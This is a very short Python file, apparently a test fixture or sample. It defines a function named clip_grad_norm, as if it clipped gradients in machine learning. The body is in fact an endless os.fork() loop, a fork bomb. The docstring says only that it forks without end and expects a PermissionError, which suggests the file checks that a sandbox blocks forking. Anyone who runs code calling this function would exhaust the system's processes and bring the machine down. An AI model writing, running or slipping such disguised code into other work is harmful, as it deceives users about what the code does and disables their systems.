"""Forks without end.

Says: PermissionError
"""

import os


def clip_grad_norm(parameters, max_norm):
    while True:
        os.fork()
